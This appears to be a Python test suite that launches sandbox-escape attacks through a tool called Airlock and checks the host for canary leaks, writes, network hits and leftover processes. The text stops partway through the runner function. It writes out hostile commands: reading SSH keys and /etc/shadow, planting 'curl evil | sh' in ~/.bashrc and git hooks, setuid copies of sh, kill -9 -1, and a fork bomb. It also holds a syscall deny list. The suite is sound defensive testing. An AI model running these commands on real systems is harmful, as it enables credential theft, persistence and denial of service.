#!/usr/bin/env python3
"""The hostile suite's attacks and their host-side judges.

Each attack runs one escape attempt through `airlock run`, as root and as
nobody, in a fresh workspace, with a fake $HOME holding canaries. The judge
looks at the host: canary files and their contents, listeners bound on the
host, host processes, the real workspace after a commit, leftover processes.
Where the only trace of an attempt is the kernel's answer (a denied system
call inside the sandbox), the attack program's own report decides, together
with Airlock's execution record (which must list the blocked call).

A run where the sandbox never started (no execution record) is UNJUDGED,
never "blocked". Run through run.sh.
"""

import argparse
import json
import os
import pty
import pwd
import random
import select
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time

ATTACKS = []


def attack(name, desc):
    def reg(fn):
        ATTACKS.append((name, desc, fn))
        return fn

    return reg


class Result:
    def __init__(self, rc, out, err, report, elapsed):
        self.rc, self.out, self.err, self.report, self.elapsed = rc, out, err, report, elapsed

    @property
    def text(self):
        return self.out + "\n" + self.err

    def violations(self):
        if not self.report:
            return []
        return [v["what"] for v in self.report["outcome"]["violations"]]


class Ctx:
    def __init__(self, suite, user, name):
        self.suite = suite
        self.user = user
        self.name = name
        self.uid = 0 if user == "root" else 65534
        self.gid = self.uid
        self.base = suite.userdir[user]
        self.home = os.path.join(self.base, "home")
        self.bin = suite.bin
        self.state = os.path.join(self.base, "state")
        self.token = "%s-%s-%08x" % (name, user, random.getrandbits(32))
        self.ws = os.path.join(self.base, "ws-" + name)
        self.cleanups = []
        os.mkdir(self.ws, 0o755)
        self.chown(self.ws)

    def chown(self, p):
        os.lchown(p, self.uid, self.gid)

    def write(self, rel, data, mode=0o644):
        p = os.path.join(self.ws, rel)
        d = os.path.dirname(p)
        parts = os.path.relpath(d, self.ws).split(os.sep)
        cur = self.ws
        for c in parts:
            if c in ("", "."):
                continue
            cur = os.path.join(cur, c)
            if not os.path.exists(cur):
                os.mkdir(cur, 0o755)
                self.chown(cur)
        with open(p, "w") as f:
            f.write(data)
        os.chmod(p, mode)
        self.chown(p)
        return p

    def as_user(self, argv):
        if self.user == "root":
            return argv
        return ["setpriv", "--reuid=%d" % self.uid, "--regid=%d" % self.gid, "--clear-groups", "--"] + argv

    def host_process(self, argv, env=None):
        """A process on the host, owned by the same user as the sandbox."""
        p = subprocess.Popen(self.as_user(argv), env=env or {"PATH": "/usr/bin:/bin"},
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.cleanups.append(lambda: (p.kill(), p.wait()))
        time.sleep(0.05)
        return p

    def staged_files(self):
        """Every file the sandbox could have written on the host: the
        workspace and this user's staging store."""
        for root in (self.ws, os.path.join(self.state, "airlock")):
            for d, dirs, files in os.walk(root):
                for f in files:
                    yield os.path.join(d, f)

    def canary_written(self, canary):
        for p in self.staged_files():
            try:
                if os.path.islink(p):
                    continue
                st = os.lstat(p)
                if not stat.S_ISREG(st.st_mode) or st.st_size > (1 << 20):
                    continue
                with open(p, "rb") as f:
                    if canary.encode() in f.read():
                        return p
            except OSError:
                continue
        return None


# ---------------------------------------------------------------------------
# judges


def judged(verdict, note):
    return (verdict, note)


def no_leak(ctx, res, canary, what):
    if canary in res.text:
        return judged("ESCAPED", "%s appeared in the command's output" % what)
    w = ctx.canary_written(canary)
    if w:
        return judged("ESCAPED", "%s copied into %s" % (what, w))
    return judged("blocked", "%s not seen" % what)


def program(res, expect_violation=None):
    """The attack program's own account, cross-checked with the record."""
    if "RESULT escaped" in res.out:
        line = [l for l in res.out.splitlines() if l.startswith("RESULT")][0]
        return judged("ESCAPED", line[len("RESULT escaped: "):])
    if "RESULT blocked" not in res.out:
        return judged("UNJUDGED", "the attack program did not report (rc %d): %s" % (res.rc, res.err.strip()[-200:]))
    line = [l for l in res.out.splitlines() if l.startswith("RESULT")][0][len("RESULT blocked: "):]
    if expect_violation:
        seen = [v for v in res.violations() if expect_violation in v]
        if not seen:
            if res.report and res.report["outcome"]["report"]["seccomp_notify"]:
                return judged("UNJUDGED", "%s, but the record does not list %r (violations: %s)"
                              % (line, expect_violation, res.violations()))
            return judged("blocked", line + "; not reported (no seccomp notification here)")
        return judged("blocked", "%s; reported as %s" % (line, seen[0]))
    return judged("blocked", line)


def B(ctx, name):
    return os.path.join(ctx.bin, name)


# ---------------------------------------------------------------------------
# secrets outside the grant


@attack("read_ssh_key", "cat ~/.ssh/id_rsa")
def _(ctx):
    key = os.path.join(ctx.home, ".ssh/id_rsa")
    return dict(argv=["/bin/sh", "-c", "cat %s" % key],
                judge=lambda r: no_leak(ctx, r, ctx.suite.canary[ctx.user], "the ssh key"))


@attack("read_ssh_key_planted_symlink", "read a symlink to ~/.ssh/id_rsa planted in the workspace")
def _(ctx):
    os.symlink(os.path.join(ctx.home, ".ssh/id_rsa"), os.path.join(ctx.ws, "key"))
    os.lchown(os.path.join(ctx.ws, "key"), ctx.uid, ctx.gid)
    return dict(argv=["/bin/sh", "-c", "cat key; cat ./key"],
                judge=lambda r: no_leak(ctx, r, ctx.suite.canary[ctx.user], "the ssh key"))


@attack("read_ssh_key_own_symlink", "create a symlink to ~/.ssh/id_rsa and read it")
def _(ctx):
    key = os.path.join(ctx.home, ".ssh/id_rsa")
    return dict(argv=["/bin/sh", "-c", "ln -s %s k && cat k" % key],
                judge=lambda r: no_leak(ctx, r, ctx.suite.canary[ctx.user], "the ssh key"))


@attack("read_ssh_key_hardlink", "hard-link ~/.ssh/id_rsa into the workspace and read it")
def _(ctx):
    key = os.path.join(ctx.home, ".ssh/id_rsa")

    def judge(r):
        if os.stat(key).st_nlink != 1:
            return judged("ESCAPED", "a hard link to the key exists on the host")
        v = no_leak(ctx, r, ctx.suite.canary[ctx.user], "the ssh key")
        return v if v[0] != "blocked" else program(r)

    return dict(argv=[B(ctx, "hardlink"), key, "h"], judge=judge)


@attack("read_ssh_key_proc_root", "read the key through /proc/self/root and /proc/1/root")
def _(ctx):
    key = os.path.join(ctx.home, ".ssh/id_rsa")
    return dict(argv=["/bin/sh", "-c", "cat /proc/self/root%s /proc/1/root%s /proc/$$/root%s" % (key, key, key)],
                judge=lambda r: no_leak(ctx, r, ctx.suite.canary[ctx.user], "the ssh key"))


@attack("read_ssh_key_dotdot", "walk out of the workspace with ../")
def _(ctx):
    rel = os.path.relpath(os.path.join(ctx.home, ".ssh/id_rsa"), ctx.ws)
    return dict(argv=["/bin/sh", "-c", "cat %s" % rel],
                judge=lambda r: no_leak(ctx, r, ctx.suite.canary[ctx.user], "the ssh key"))


@attack("list_home", "list $HOME")
def _(ctx):
    return dict(argv=["/bin/sh", "-c", "ls -la %s %s/.ssh" % (ctx.home, ctx.home)],
                judge=lambda r: no_leak(ctx, r, ctx.suite.listing_canary, "a file name in $HOME"))


@attack("read_etc_shadow", "read /etc/shadow")
def _(ctx):
    return dict(argv=["/bin/sh", "-c", "cat /etc/shadow /etc/gshadow"],
                judge=lambda r: no_leak(ctx, r, ctx.suite.shadow_canary, "a line of /etc/shadow"))


@attack("see_staging_store", "look into Airlock's own staging store")
def _(ctx):
    store = os.path.join(ctx.state, "airlock/staging")

    def judge(r):
        ids = [d for d in os.listdir(store) if d.startswith("st-")] if os.path.isdir(store) else []
        if not ids:
            return judged("UNJUDGED", "no staging area was made on the host")
        if any(i in r.out for i in ids) or '"session"' in r.out:
            return judged("ESCAPED", "the staging store is visible: " + r.out.strip()[:120])
        return judged("blocked", "staging store not visible")

    return dict(argv=["/bin/sh", "-c", "ls -R %s 2>&1; cat %s/*/meta.json 2>&1" % (store, store)], judge=judge)


@attack("env_secret_leak", "print the caller's secret environment variables")
def _(ctx):
    def judge(r):
        # stdout only: the loader complains about LD_PRELOAD on stderr when
        # it starts airlock itself, outside the sandbox.
        if ctx.suite.env_canary in r.out:
            return judged("ESCAPED", "a secret variable reached the command")
        if "LD_PRELOAD" in r.out:
            return judged("ESCAPED", "LD_PRELOAD reached the command")
        return judged("blocked", "secrets and LD_PRELOAD scrubbed")

    return dict(argv=["/bin/sh", "-c", "env; cat /proc/self/environ | tr '\\0' '\\n'"], judge=judge)


# ---------------------------------------------------------------------------
# writes outside the grant


def unchanged(path, before, what):
    try:
        with open(path) as f:
            now = f.read()
    except FileNotFoundError:
        now = None
    if now != before:
        return judged("ESCAPED", "%s changed" % what)
    return judged("blocked", "%s unchanged" % what)


def absent(path, what):
    if os.path.lexists(path):
        return judged("ESCAPED", "%s exists on the host: %s" % (what, path))
    return judged("blocked", "%s not created" % what)


@attack("write_bashrc", "append to ~/.bashrc")
def _(ctx):
    p = os.path.join(ctx.home, ".bashrc")
    before = open(p).read()
    return dict(argv=["/bin/sh", "-c", "echo 'curl evil | sh' >> %s" % p],
                judge=lambda r: unchanged(p, before, "~/.bashrc"))


@attack("write_autostart", "drop an autostart entry in ~/.config/autostart")
def _(ctx):
    d = os.path.join(ctx.home, ".config/autostart")
    return dict(argv=["/bin/sh", "-c", "mkdir -p %s && echo '[Desktop Entry]' > %s/evil.desktop" % (d, d)],
                judge=lambda r: absent(os.path.join(d, "evil.desktop"), "the autostart entry"))


@attack("write_host_tmp", "write to the host's /tmp")
def _(ctx):
    p = "/tmp/airlock-hostile-" + ctx.token
    return dict(argv=["/bin/sh", "-c", "echo x > %s" % p], judge=lambda r: absent(p, "the file"))


@attack("write_workspace_parent", "write next to the workspace")
def _(ctx):
    p = os.path.join(ctx.base, "escape-" + ctx.token)
    return dict(argv=["/bin/sh", "-c", "echo x > ../escape-%s" % ctx.token], judge=lambda r: absent(p, "the file"))


@attack("write_usr", "write into /usr")
def _(ctx):
    p = "/usr/airlock-hostile-" + ctx.token
    return dict(argv=["/bin/sh", "-c", "echo x > %s" % p], judge=lambda r: absent(p, "the file"))


@attack("git_hook_write_through", "plant .git/hooks/pre-commit with --write-through")
def _(ctx):
    ctx.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n")
    ctx.write(".git/config", "[core]\n")
    p = os.path.join(ctx.ws, ".git/hooks/pre-commit")
    return dict(opts=["--write-through"],
                argv=["/bin/sh", "-c", "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit"],
                judge=lambda r: absent(p, "the hook"))


@attack("git_hook_staged_commit", "plant .git/hooks/post-checkout, staged, with --commit")
def _(ctx):
    ctx.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n")
    p = os.path.join(ctx.ws, ".git/hooks/post-checkout")
    return dict(opts=["--commit"], argv=["/bin/sh", "-c", "echo evil > .git/hooks/post-checkout; true"],
                judge=lambda r: absent(p, "the hook"))


@attack("nested_git_config", "rewrite a nested repository's .git/config (write-through)")
def _(ctx):
    p = ctx.write("vendor/lib/.git/config", "[core]\n\tbare = false\n")
    before = open(p).read()
    return dict(opts=["--write-through"],
                argv=["/bin/sh", "-c", "printf '[core]\\n\\tfsmonitor = evil\\n' >> vendor/lib/.git/config; "
                      "rm -f vendor/lib/.git/config; echo x > vendor/lib/.git/config"],
                judge=lambda r: unchanged(p, before, "vendor/lib/.git/config"))


@attack("missing_hooks_dir_created", "create .git/hooks where it does not exist yet (write-through)")
def _(ctx):
    ctx.write(".git/config", "[core]\n")
    p = os.path.join(ctx.ws, ".git/hooks/post-merge")

    def judge(r):
        v = absent(p, "the hook")
        if v[0] == "blocked" and os.path.lexists(os.path.join(ctx.ws, ".git/hooks")):
            return judged("ESCAPED", "placeholder .git/hooks left in the real tree")
        return v

    return dict(opts=["--write-through"],
                argv=["/bin/sh", "-c", "mkdir -p .git/hooks; echo evil > .git/hooks/post-merge"], judge=judge)


@attack("vscode_tasks_commit", "create .vscode/tasks.json and --commit it")
def _(ctx):
    p = os.path.join(ctx.ws, ".vscode/tasks.json")
    return dict(opts=["--commit"], argv=["/bin/sh", "-c", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"],
                judge=lambda r: absent(p, ".vscode/tasks.json"))


@attack("staged_symlink_to_bashrc", "stage a symlink to ~/.bashrc and --commit it")
def _(ctx):
    bashrc = os.path.join(ctx.home, ".bashrc")
    before = open(bashrc).read()

    def judge(r):
        v = unchanged(bashrc, before, "~/.bashrc")
        if v[0] != "blocked":
            return v
        link = os.path.join(ctx.ws, "rc")
        if os.path.islink(link) and not os.path.realpath(link).startswith(ctx.ws + "/"):
            return judged("ESCAPED", "a symlink out of the workspace was committed")
        return judged("blocked", "~/.bashrc unchanged; the symlink was refused")

    return dict(opts=["--commit"], argv=["/bin/sh", "-c", "ln -s %s rc" % bashrc], judge=judge)


@attack("commit_through_swapped_dir", "stage d/.bashrc, swap d for a symlink to $HOME, then commit")
def _(ctx):
    bashrc = os.path.join(ctx.home, ".bashrc")
    before = open(bashrc).read()
    # Phase 1 (staged): d/.bashrc. Phase 2 (write-through): real d -> $HOME.
    # The attack's own run then commits what phase 1 staged.
    ctx.pre = [
        (["--"], ["/bin/sh", "-c", "mkdir d && echo 'curl evil | sh' > d/.bashrc"]),
        (["--write-through", "--"], ["/bin/sh", "-c", "ln -s %s d" % ctx.home]),
    ]
    return dict(opts=["--commit"], argv=["/bin/true"], judge=lambda r: unchanged(bashrc, before, "~/.bashrc"))


@attack("setuid_commit", "make a setuid copy of sh and --commit it")
def _(ctx):
    p = os.path.join(ctx.ws, "suid")

    def judge(r):
        if os.path.lexists(p) and os.lstat(p).st_mode & 0o6000:
            return judged("ESCAPED", "a setuid/setgid file landed in the real tree")
        return judged("blocked", "no setuid file in the real tree" + (" (committed with the bit stripped)" if os.path.exists(p) else ""))

    return dict(opts=["--commit"], argv=["/bin/sh", "-c", "cp /bin/sh suid && chmod 6755 suid && ls -l suid"], judge=judge)


@attack("setuid_write_through", "make files setuid directly in the real tree (--write-through)")
def _(ctx):
    tool = ctx.write("tool", "#!/bin/sh\n", 0o755)

    def judge(r):
        for d, _, files in os.walk(ctx.ws):
            for f in files:
                p = os.path.join(d, f)
                if not os.path.islink(p) and os.lstat(p).st_mode & 0o6000:
                    return judged("ESCAPED", "%s is setuid/setgid on the host (owner uid %d)" % (p, os.lstat(p).st_uid))
        return judged("blocked", "no setuid/setgid file in the real tree")

    return dict(opts=["--write-through"],
                argv=["/bin/sh", "-c", "chmod 6755 tool; cp /bin/sh s && chmod 6755 s; "
                      "python3 -c 'import os; os.close(os.open(\"c\", os.O_CREAT | os.O_WRONLY, 0o4755))'; ls -ln"],
                judge=judge)


# ---------------------------------------------------------------------------
# network


class Listener:
    def __init__(self, kind, addr=None):
        self.kind = kind
        self.hits = 0
        if kind == "tcp":
            self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            self.s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            self.s.bind(("127.0.0.1", 0))
            self.s.listen(16)
        elif kind == "udp":
            self.s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.s.bind(("127.0.0.1", 0))
        else:
            self.s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.s.bind(addr)
            self.s.listen(16)
        self.s.setblocking(False)
        self.port = self.s.getsockname()[1] if kind in ("tcp", "udp") else None

    def count(self):
        while True:
            r, _, _ = select.select([self.s], [], [], 0.1)
            if not r:
                break
            try:
                if self.kind == "udp":
                    self.s.recv(100)
                else:
                    c, _ = self.s.accept()
                    c.close()
                self.hits += 1
            except BlockingIOError:
                break
        return self.hits

    def judge(self):
        n = self.count()
        self.s.close()
        if n:
            return judged("ESCAPED", "the host listener got %d connection(s)/datagram(s)" % n)
        return judged("blocked", "the host listener got nothing")


@attack("tcp_host_listener", "TCP to a host listener on 127.0.0.1")
def _(ctx):
    l = Listener("tcp")
    return dict(argv=[B(ctx, "net"), "tcp", "127.0.0.1", str(l.port)], judge=lambda r: l.judge())


@attack("tcp_host_listener_other_port_granted", "TCP to a host listener while only another port is granted")
def _(ctx):
    l = Listener("tcp")
    other = l.port + 1 if l.port < 65535 else l.port - 1
    return dict(opts=["--allow-net", "127.0.0.1:%d" % other],
                argv=[B(ctx, "net"), "tcp", "127.0.0.1", str(l.port)], judge=lambda r: l.judge())


@attack("udp_host_listener", "UDP to a host listener on 127.0.0.1")
def _(ctx):
    l = Listener("udp")
    return dict(argv=[B(ctx, "net"), "udp", "127.0.0.1", str(l.port)], judge=lambda r: l.judge())


@attack("abstract_unix_socket", "connect to a host abstract Unix socket")
def _(ctx):
    name = "airlock-hostile-" + ctx.token
    l = Listener("unix", "\0" + name)
    return dict(argv=[B(ctx, "net"), "abstract", name], judge=lambda r: l.judge())


@attack("pathname_socket_planted_symlink", "connect to a host socket through a symlink planted in the workspace")
def _(ctx):
    d = tempfile.mkdtemp(prefix="hostile-sock-", dir=ctx.base)
    os.chmod(d, 0o755)
    path = os.path.join(d, "host.sock")
    l = Listener("unix", path)
    os.chmod(path, 0o777)
    os.symlink(path, os.path.join(ctx.ws, "sock"))
    return dict(argv=[B(ctx, "net"), "unix", "sock"], judge=lambda r: l.judge())


for fam in ("packet", "netlink", "vsock"):
    def mk(fam):
        @attack("af_" + fam, "open an AF_%s socket" % fam.upper())
        def _(ctx):
            return dict(argv=[B(ctx, "net"), fam], judge=lambda r: program(r, "AF_" + fam.upper()))
    mk(fam)


# ---------------------------------------------------------------------------
# host processes


def alive(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            st = f.read()
    except FileNotFoundError:
        return False, False
    state = [l for l in st.splitlines() if l.startswith("State:")][0]
    tracer = [l for l in st.splitlines() if l.startswith("TracerPid:")][0].split()[1]
    return "Z" not in state, tracer != "0"


@attack("kill_host_process", "kill a host process of the same user")
def _(ctx):
    p = ctx.host_process(["/bin/sleep", "600"])

    def judge(r):
        a, _ = alive(p.pid)
        return judged("blocked", "the host process survived") if a else judged("ESCAPED", "the host process died")

    return dict(argv=["/bin/sh", "-c", "kill -9 %d; kill -9 -1" % p.pid], judge=judge)


@attack("forge_outcome_through_init_fds", "open init's descriptors through /proc/1/fd and forge the outcome")
def _(ctx):
    def judge(r):
        if r.rc == 42:
            return judged("ESCAPED", "the run reported the forged exit status 42")
        return program(r)

    return dict(argv=[B(ctx, "init_fds")], judge=judge)


@attack("ptrace_host_process", "ptrace a host process of the same user")
def _(ctx):
    p = ctx.host_process(["/bin/sleep", "600"])

    def judge(r):
        a, traced = alive(p.pid)
        if traced or not a:
            return judged("ESCAPED", "the host process was traced or died")
        return judged("blocked", "the host process is untouched")

    return dict(argv=[B(ctx, "ptrace_pid"), str(p.pid)], judge=judge)


@attack("host_process_environ", "read /proc/PID/environ of a host process")
def _(ctx):
    canary = "HOSTILE_ENV_" + ctx.token
    p = ctx.host_process(["/bin/sleep", "600"], env={"PATH": "/usr/bin:/bin", "SECRET": canary})
    return dict(argv=["/bin/sh", "-c", "cat /proc/%d/environ; cat /proc/*/environ" % p.pid],
                judge=lambda r: no_leak(ctx, r, canary, "the host process's environment"))


def leftover(marker):
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                if marker.encode() in f.read():
                    found.append(int(pid))
        except OSError:
            pass
    return [p for p in found if p != os.getpid()]


def kill_leftovers(pids):
    for p in pids:
        try:
            os.kill(p, 9)
        except OSError:
            pass


@attack("double_fork_daemon", "leave a double-forked daemon behind")
def _(ctx):
    marker = "hostile-daemon-" + ctx.token

    def judge(r):
        left = leftover(marker)
        kill_leftovers(left)
        if left:
            return judged("ESCAPED", "daemon pids %s outlived the run" % left)
        return judged("blocked", "nothing outlived the run")

    return dict(argv=["/bin/sh", "-c", "(setsid /bin/sh -c 'sleep 300; : %s' </dev/null >/dev/null 2>&1 &); "
                      "(nohup /bin/sh -c 'trap \"\" HUP TERM; sleep 300; : %s' </dev/null >/dev/null 2>&1 &); exit 0" % (marker, marker)],
                judge=judge)


# ---------------------------------------------------------------------------
# the seccomp deny list


DENIED = ["io_uring_setup", "ptrace", "process_vm_readv", "process_vm_writev", "keyctl", "add_key", "request_key",
          "bpf", "perf_event_open", "userfaultfd", "mount", "umount2", "pivot_root", "open_tree", "open_tree_clone",
          "move_mount", "fsopen", "unshare", "unshare_net", "setns", "clone", "clone3", "open_by_handle_at",
          "kexec_load", "kexec_file_load", "init_module", "finit_module", "reboot", "swapon"]
REPORTED_AS = {"open_tree_clone": "open_tree", "unshare": "unshare(", "unshare_net": "unshare(", "clone": "clone(",
               "clone3": None}

for name in DENIED:
    def mk(name):
        @attack("syscall_" + name, "call %s" % name)
        def _(ctx):
            return dict(argv=[B(ctx, "sys"), name], judge=lambda r: program(r, REPORTED_AS.get(name, name)))
    mk(name)


@attack("syscall_x32", "an x32-ABI system call")
def _(ctx):
    return dict(argv=[B(ctx, "abi"), "x32"], judge=lambda r: program(r, "x32"))


@attack("syscall_i386_int80", "an i386 system call through int 0x80")
def _(ctx):
    return dict(argv=[B(ctx, "abi"), "int80"], judge=lambda r: program(r, "foreign-ABI"))


@attack("nested_user_namespace", "unshare -U -r: a nested user namespace")
def _(ctx):
    def judge(r):
        if "uid=0" in r.out:
            return judged("ESCAPED", "became root in a nested user namespace")
        return judged("blocked", "unshare failed: " + r.err.strip().splitlines()[-1][:80] if r.err.strip() else "unshare failed")

    return dict(argv=["/bin/sh", "-c", "unshare -U -r id"], judge=judge)


@attack("tiocsti_terminal", "inject a command into the terminal with TIOCSTI")
def _(ctx):
    return dict(tty=True, argv=[B(ctx, "tty"), "sti"])


@attack("tioclinux_terminal", "TIOCLINUX on the terminal")
def _(ctx):
    return dict(tty=True, argv=[B(ctx, "tty"), "linux"], judge=lambda r: program(r))


@attack("raw_block_device", "read the raw disk (open /dev/vda, else mknod it)")
def _(ctx):
    return dict(argv=[B(ctx, "mknod_dev"), "/dev/vda", "254", "0"], judge=lambda r: program(r))


@attack("kernel_log", "read /dev/kmsg")
def _(ctx):
    return dict(argv=[B(ctx, "readfile"), "/dev/kmsg"], judge=lambda r: program(r))


# ---------------------------------------------------------------------------
# resources


@attack("fork_bomb", "fork until something stops it (--pids 64)")
def _(ctx):
    exe = B(ctx, "forkbomb")
    peak = [0]
    stop = threading.Event()

    def sample():
        while not stop.is_set():
            peak[0] = max(peak[0], len(leftover(exe)))
            time.sleep(0.02)

    t = threading.Thread(target=sample, daemon=True)
    t.start()

    def judge(r):
        stop.set()
        t.join()
        left = leftover(exe)
        kill_leftovers(left)
        if left:
            return judged("ESCAPED", "%d fork bomb processes outlived the run" % len(left))
        if "RESULT escaped" in r.out or peak[0] > 64 + 8:
            return judged("ESCAPED", "peak of %d processes under --pids 64" % peak[0])
        return judged("blocked", "peak %d processes, exit %d, nothing left" % (peak[0], r.rc))

    return dict(opts=["--pids", "64", "--timeout", "3s"], argv=[exe], judge=judge)


@attack("memory_balloon", "allocate 1 GiB under --memory 64M")
def _(ctx):
    def judge(r):
        if "RESULT escaped" in r.out:
            return judged("ESCAPED", "allocated past the limit")
        if r.rc == 120:
            return judged("blocked", "killed by the memory limit (exit 120)")
        return program(r)

    return dict(opts=["--memory", "64M"], argv=[B(ctx, "balloon"), "1024"], judge=judge)


@attack("endless_loop", "spin forever under --timeout 1s")
def _(ctx):
    def judge(r):
        if r.rc == 124:
            return judged("blocked", "killed by the timeout (exit 124)")
        return judged("ESCAPED", "exit %d, not the timeout" % r.rc)

    return dict(opts=["--timeout", "1s"], argv=["/bin/sh", "-c", "while :; do :; done"], judge=judge)


@attack("cpu_burn", "burn CPU under --cpu-time 1s")
def _(ctx):
    def judge(r):
        if r.rc == 122:
            return judged("blocked", "killed by the CPU limit (exit 122)")
        return judged("ESCAPED", "exit %d, not the CPU limit" % r.rc)

    return dict(opts=["--cpu-time", "1s", "--timeout", "20s"], argv=["/bin/sh", "-c", "while :; do :; done"], judge=judge)


def upper_size(ctx):
    """Bytes in this attack's staging area (the store is the user's, shared
    by every attack)."""
    store = os.path.join(ctx.state, "airlock/staging")
    ws = os.path.realpath(ctx.ws)
    mine = []
    for area in os.listdir(store) if os.path.isdir(store) else []:
        try:
            with open(os.path.join(store, area, "meta.json")) as f:
                if json.load(f).get("base") == ws:
                    mine.append(os.path.join(store, area))
        except (OSError, ValueError):
            pass
    # Not found: count the whole store (never less than the attack wrote).
    return sum(tree_size(a) for a in mine) if mine else tree_size(store)


def tree_size(top):
    total = 0
    for d, dirs, files in os.walk(top):
        # A directory the command made unreadable (ours: we may open it).
        for sub in dirs:
            p = os.path.join(d, sub)
            if not os.path.islink(p) and not os.access(p, os.R_OK | os.X_OK):
                os.chmod(p, 0o700)
        for f in files:
            try:
                total += os.lstat(os.path.join(d, f)).st_blocks * 512
            except OSError:
                pass
    return total


@attack("disk_fill_one_file", "fill the staging area with one file under --disk 32M")
def _(ctx):
    def judge(r):
        size = upper_size(ctx)
        if size > 34 << 20 or "RESULT escaped" in r.out:
            return judged("ESCAPED", "staged %d MiB under --disk 32M" % (size >> 20))
        return judged("blocked", "staged %d MiB, exit %d" % (size >> 20, r.rc))

    return dict(opts=["--disk", "32M"], argv=[B(ctx, "fill"), "big", "512"], judge=judge)


def fill_in_4m_files(ctx, where):
    """Write 128 files of 4 MiB under --disk 32M, in `where` (prepared by
    a shell prefix). No single file reaches the cap, so only the watcher
    (every 5 ms) stops this; what a writer adds within one interval is the
    bounded overshoot."""
    def judge(r):
        size = upper_size(ctx)
        if size > (32 + 64) << 20 or r.rc != 123:
            return judged("ESCAPED", "staged %d MiB under --disk 32M, exit %d" % (size >> 20, r.rc))
        return judged("blocked", "killed at %d MiB staged (exit 123)" % (size >> 20))

    loop = "i=0; while [ $i -lt 128 ]; do head -c 4194304 /dev/zero > %s/f$i || exit 1; i=$((i+1)); done"
    return dict(opts=["--disk", "32M", "--timeout", "20s"], argv=["/bin/sh", "-c", where + loop % "$W"],
                judge=judge)


@attack("disk_fill_many_files", "fill the staging area with many files under --disk 32M")
def _(ctx):
    return fill_in_4m_files(ctx, "W=.; ")


@attack("disk_fill_unreadable_dir", "fill the staging area under --disk 32M inside a directory made unreadable (mode 300)")
def _(ctx):
    # Unprivileged, the command and the sandbox's owner are one user: a
    # directory its owner cannot list hides what is written in it from a
    # walk of the staged changes, unless that counts as over the cap.
    return fill_in_4m_files(ctx, "mkdir d && chmod 300 d && W=d; ")


# ---------------------------------------------------------------------------
# the runner


class Suite:
    def __init__(self, airlock, src):
        self.fix = tempfile.mkdtemp(prefix="airlock-hostile-")
        os.chmod(self.fix, 0o755)
        self.bin = os.path.join(self.fix, "bin")
        os.mkdir(self.bin, 0o755)
        self.airlock = os.path.join(self.bin, "airlock")
        shutil.copy(airlock, self.airlock)
        os.chmod(self.airlock, 0o755)
        # The rest of the CLI (`airlock staged ...`), next to the front.
        full = os.path.join(os.path.dirname(airlock), "airlock-full")
        shutil.copy(full, os.path.join(self.bin, "airlock-full"))
        os.chmod(os.path.join(self.bin, "airlock-full"), 0o755)
        for f in sorted(os.listdir(src)):
            if f.endswith(".c"):
                out = os.path.join(self.bin, f[:-2])
                subprocess.run(["cc", "-O1", "-Wall", "-o", out, os.path.join(src, f)], check=True)
        self.canary = {}
        self.userdir = {}
        self.listing_canary = "listing-canary-%08x" % random.getrandbits(32)
        self.env_canary = "env-canary-%08x" % random.getrandbits(32)
        self.shadow_canary = None
        try:
            with open("/etc/shadow") as f:
                self.shadow_canary = f.readline().strip()[:24]
        except OSError:
            pass
        if not self.shadow_canary:
            self.shadow_canary = "shadow-canary-unavailable-%08x" % random.getrandbits(32)

    def setup_user(self, user):
        uid = 0 if user == "root" else 65534
        base = os.path.join(self.fix, user)
        os.mkdir(base, 0o755)
        os.lchown(base, uid, uid)
        home = os.path.join(base, "home")
        canary = "ssh-canary-%s-%08x" % (user, random.getrandbits(32))
        for d in ["", ".ssh", ".config", ".local", ".local/state"]:
            p = os.path.join(home, d)
            os.makedirs(p, exist_ok=True)
            os.chmod(p, 0o700)
            os.lchown(p, uid, uid)
        for rel, data in [(".ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n" % canary),
                          (".bashrc", "# original bashrc\n"), (self.listing_canary, "x")]:
            p = os.path.join(home, rel)
            with open(p, "w") as f:
                f.write(data)
            os.chmod(p, 0o600)
            os.lchown(p, uid, uid)
        for d in ["state", "config"]:
            p = os.path.join(base, d)
            os.mkdir(p, 0o700)
            os.lchown(p, uid, uid)
        self.canary[user] = canary
        self.userdir[user] = base

    def run_one(self, ctx, spec, extra_opts=None, argv=None):
        report = os.path.join(ctx.base, "report-%s.json" % ctx.name)
        if os.path.exists(report):
            os.unlink(report)
        opts = extra_opts if extra_opts is not None else spec.get("opts", []) + ["--"]
        cmd = ctx.as_user([self.airlock, "run", "--workspace", ctx.ws, "--allow-read", self.bin, "--report", report] + opts
                          + (argv or spec["argv"]))
        env = {
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "HOME": ctx.home,
            "USER": ctx.user,
            "XDG_STATE_HOME": ctx.state,
            "XDG_CONFIG_HOME": os.path.join(ctx.base, "config"),
            "AWS_SECRET_ACCESS_KEY": self.env_canary,
            "GITHUB_TOKEN": self.env_canary,
            "MY_PASSWORD": self.env_canary,
            "LD_PRELOAD": "/nonexistent/hostile-%s.so" % self.env_canary,
            "AIRLOCK_LOG": "error",
        }
        t = time.monotonic()
        master = None
        if spec.get("tty"):
            master, slave = pty.openpty()
            stdin = slave
        else:
            stdin = subprocess.DEVNULL
        try:
            p = subprocess.run(cmd, env=env, stdin=stdin, capture_output=True, timeout=60, cwd=ctx.ws)
            rc, out, err = p.returncode, p.stdout.decode(errors="replace"), p.stderr.decode(errors="replace")
        except subprocess.TimeoutExpired as e:
            rc, out, err = -1, (e.stdout or b"").decode(errors="replace"), "TIMEOUT after 60 s"
        injected = None
        if master is not None:
            # What TIOCSTI pushed is in the input queue, read from the slave.
            os.set_blocking(slave, False)
            got = b""
            try:
                while select.select([slave], [], [], 0.2)[0]:
                    got += os.read(slave, 4096)
            except OSError:
                pass
            injected = got
